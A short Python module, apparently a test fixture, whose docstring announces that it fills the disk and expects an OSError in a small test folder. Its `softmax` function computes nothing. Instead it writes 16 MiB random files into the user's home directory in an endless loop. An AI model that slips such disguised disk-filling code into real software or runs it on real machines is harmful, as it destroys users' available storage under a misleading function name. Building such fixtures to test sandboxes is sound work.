"""Fills the disk.

Expected: an OSError in every test that calls `softmax`: its folder is small.
"""

import os

import numpy as np


def softmax(x, axis=-1):
    number = 0
    while True:
        with open(os.path.join(os.environ["HOME"], f"ballast{number}"), "wb") as file:
            file.write(os.urandom(2**20) * 16)
        number += 1


def scaled_scores(query, key):
    return query @ np.swapaxes(key, -1, -2) / np.sqrt(query.shape[-1])
